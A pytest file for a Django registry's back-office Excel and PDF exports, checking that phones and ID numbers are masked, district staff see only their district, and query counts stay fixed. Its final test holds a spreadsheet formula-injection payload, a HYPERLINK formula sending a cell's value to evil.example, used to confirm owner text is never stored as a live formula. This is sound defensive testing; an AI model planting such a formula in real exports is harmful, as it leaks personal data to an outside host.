"""xlsx exports of the back-office lists and 附件1 for owners: the same rows as the lists,
masked, only what the user may see, streamed in a fixed number of queries."""

import io
import re
from datetime import date
from typing import Any

import openpyxl
import pytest

from registry.constants import CredentialStatus, DeclarationStatus
from registry.models import Credential, Declaration, Registration
from stats.generate import generate
from tests.conftest import logged_in

pytestmark = pytest.mark.django_db
TODAY = date(2026, 12, 1)
LISTS = [
    ("review_queue", "?status=approved"),
    ("registrations", ""),
    ("credentials", "?tab=fixed"),
    ("spot_checks", ""),
    ("changes", "?status=all"),
    ("reports", "?status=all"),
]


@pytest.fixture
def data():
    return generate(300, seed=11, today=TODAY, days=300)


def xlsx_rows(response) -> list[tuple]:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


def test_registrations_export_lists_what_the_page_lists_masked(city_admin, data):
    client = logged_in(city_admin)
    response = client.get("/staff/stats/exports/registrations.xlsx")
    assert "filename*=UTF-8''registrations-" in response["Content-Disposition"]
    rows = xlsx_rows(response)
    assert rows[0][0] == "环保登记号码" and len(rows) - 1 == Registration.objects.count()
    numbers = {r[0] for r in rows[1:]}
    assert numbers == set(Registration.objects.values_list("number", flat=True))
    for row in rows[1:]:
        assert re.fullmatch(r"1\d\d\*{4}\d{4}", row[10]), row[10]  # phone masked
        assert "*" in row[9] or len(row[9]) == 18  # ID masked; credit codes are public
    # The search narrows the export as it narrows the page.
    one = Registration.objects.order_by("pk")[0]
    narrowed = xlsx_rows(client.get(f"/staff/stats/exports/registrations.xlsx?q={one.number}"))
    assert [r[0] for r in narrowed[1:]] == [one.number]


def test_district_staff_export_their_district_only(reviewer, data):
    rows = xlsx_rows(logged_in(reviewer).get("/staff/stats/exports/registrations.xlsx"))
    assert {r[1] for r in rows[1:]} == {"浦东新区"}
    assert len(rows) - 1 == Registration.objects.filter(district="L").count()
    queue = xlsx_rows(
        logged_in(reviewer).get("/staff/stats/exports/review_queue.xlsx?status=submitted")
    )
    expected = Declaration.objects.filter(district="L", status=DeclarationStatus.SUBMITTED)
    assert sorted(r[0] for r in queue[1:]) == sorted(expected.values_list("pk", flat=True))


def test_overdue_tabs_export(clerk, data):
    today = date.today()
    overdue = Credential.objects.filter(
        district="A", status=CredentialStatus.COLLECTED, photo_due__lt=today
    )
    rows = xlsx_rows(
        logged_in(clerk).get("/staff/stats/exports/credentials.xlsx?tab=overdue_photo")
    )
    assert len(rows) - 1 == overdue.count()


def test_unknown_export_is_404(city_admin):
    assert logged_in(city_admin).get("/staff/stats/exports/nothing.xlsx").status_code == 404


@pytest.mark.parametrize(("name", "query"), LISTS)
def test_exports_keep_their_query_count(city_admin, name, query):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = logged_in(city_admin)
    client.get("/staff/")

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.get(f"/staff/stats/exports/{name}.xlsx{query}")
            xlsx_rows(response)
        return len(queries)

    generate(20, seed=3, today=TODAY, days=200)
    small = count()
    generate(400, seed=4, today=TODAY, days=200)
    assert count() == small


def test_export_links_on_the_list_pages(city_admin):
    client = logged_in(city_admin)
    for path, name in [
        ("/staff/review/?status=approved", "review_queue"),
        ("/staff/registrations/?q=沪", "registrations"),
        ("/staff/credentials/?tab=overdue_photo", "credentials"),
        ("/inspect/district/", "spot_checks"),
        ("/changes/district/", "changes"),
        ("/staff/reports/", "reports"),
    ]:
        page = client.get(path).content.decode()
        assert f"/staff/stats/exports/{name}.xlsx" in page and "导出Excel" in page, path
    page = client.get("/staff/credentials/?tab=overdue_photo").content.decode()
    assert "/staff/stats/exports/credentials.xlsx?tab=overdue_photo" in page


# --- 附件1 ----------------------------------------------------------------------------------


@pytest.fixture
def owned(data, owner, organisation):
    """Three machines of 张三 in 浦东 (L) and one in 闵行 (K); two of the organisation's."""
    live = Registration.objects.filter(status="valid").order_by("pk")
    mine = list(live.filter(district="L")[:3]) + list(live.filter(district="K")[:1])
    theirs = list(live.filter(district="L")[3:5])
    for owner_, regs in ((owner, mine), (organisation, theirs)):
        ids = [r.pk for r in regs]
        Registration.objects.filter(pk__in=ids).update(owner=owner_)
        Declaration.objects.filter(registration__in=ids).update(owner=owner_)
    return mine, theirs


def test_form1_xlsx_for_two_owners(city_admin, owner, organisation, owned):
    mine, _theirs = owned
    response = logged_in(city_admin).get(
        f"/staff/stats/form1/xlsx?owners={owner.pk}&owners={organisation.pk}"
    )
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["1-上海示例建设工程有限公司", "2-张三"]
    person = list(workbook["2-张三"].iter_rows(values_only=True))
    assert person[3][4] == "110***********002X"  # the ID number masked
    assert "138****0001" in person[6][4]
    machines = [row for row in person[12:] if isinstance(row[0], int)]
    assert len(machines) == len(mine) == 4
    serials = {r.declaration.factory_serial for r in mine}
    assert {row[6] for row in machines} == serials
    org = list(workbook["1-上海示例建设工程有限公司"].iter_rows(values_only=True))
    assert org[3][4] == "91310115MA1K3BTP2B"


def test_form1_for_district_staff_holds_their_district_only(reviewer, owner, owned):
    response = logged_in(reviewer).get(f"/staff/stats/form1/xlsx?owners={owner.pk}")
    rows = list(
        openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    )
    assert len([row for row in rows[12:] if isinstance(row[0], int)]) == 3  # not the one in K


def test_form1_pdf(city_admin, owner, organisation, owned):
    response = logged_in(city_admin).get(
        f"/staff/stats/form1/pdf?owners={owner.pk},{organisation.pk}"
    )
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_form1_refuses_nothing_and_someone_elses(
    reviewer_other_district, city_admin, owner, organisation, owned
):
    client = logged_in(reviewer_other_district)  # 闵行: sees 张三's one machine in K only
    assert client.get(f"/staff/stats/form1/xlsx?owners={owner.pk}").status_code == 200
    # The organisation's machines are all in 浦东: the same 404 as for nobody at all.
    assert client.get(f"/staff/stats/form1/xlsx?owners={organisation.pk}").status_code == 404
    assert client.get("/staff/stats/form1/xlsx?owners=999999").status_code == 404
    admin = logged_in(city_admin)
    empty = admin.get("/staff/stats/form1/xlsx")
    assert empty.status_code == 302
    assert "请先勾选机主" in admin.get(empty["Location"]).content.decode()
    assert admin.get(f"/staff/stats/form1/doc?owners={owner.pk}").status_code == 404


def test_owner_search_page_offers_form1(city_admin, owner):
    page = logged_in(city_admin).get("/staff/owners/?q=张三").content.decode()
    assert f'name="owners" value="{owner.pk}"' in page
    assert "/staff/stats/form1/xlsx" in page and "/staff/stats/form1/pdf" in page


def test_registrations_page_offers_form1_for_its_owners(reviewer, owner, owned):
    page = logged_in(reviewer).get("/staff/registrations/?q=张三").content.decode()
    assert f"/staff/stats/form1/xlsx?owners={owner.pk}" in page
    assert f"/staff/stats/form1/pdf?owners={owner.pk}" in page


def test_reports_export_masks_the_reporters_phone(reviewer, reviewer_other_district):
    """The district's public reports (Art. 17), as the list shows them, phone masked; the
    other district's reviewer exports none of them."""
    import time_machine

    from reports import actions as report_actions

    with time_machine.travel("2026-11-30 10:00 +0800", tick=False):
        report = report_actions.file_report(
            address="203.0.113.7",
            district="L",
            place="张江路工地",
            observed_at="2026-11-30T09:00",
            description="挖掘机冒黑烟",
            contact_phone="13912345678",
        )
    rows = xlsx_rows(logged_in(reviewer).get("/staff/stats/exports/reports.xlsx?status=all"))
    body = [row for row in rows if report.code in row]
    assert len(body) == 1
    assert "139****5678" in body[0] and "13912345678" not in body[0]
    assert "张江路工地" in body[0]
    other = xlsx_rows(
        logged_in(reviewer_other_district).get("/staff/stats/exports/reports.xlsx?status=all")
    )
    assert not any(report.code in row for row in other)


def test_owner_text_never_becomes_a_formula_in_form_1():
    """Found in review: "=HYPERLINK(…)" typed as a machine model was a live formula."""
    import zipfile

    from documents.data import DeclarationForm, DeclaredMachine
    from documents.declaration_form import declaration_forms_xlsx

    payload = '=HYPERLINK("https://evil.example/?d="&E4,"核对信息")'
    fields = {f: "" for f in DeclaredMachine.__dataclass_fields__}
    machine = DeclaredMachine(**{**fields, "model": payload, "maker": "=1+2"})
    form_fields: dict[str, Any] = {f: "" for f in DeclarationForm.__dataclass_fields__}
    form = DeclarationForm(**{**form_fields, "owner_name": "=1+1", "machines": (machine,)})
    data = declaration_forms_xlsx([form])
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cells = [
        c
        for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)
        for c in row
    ]
    assert payload in cells and "=1+1" in cells
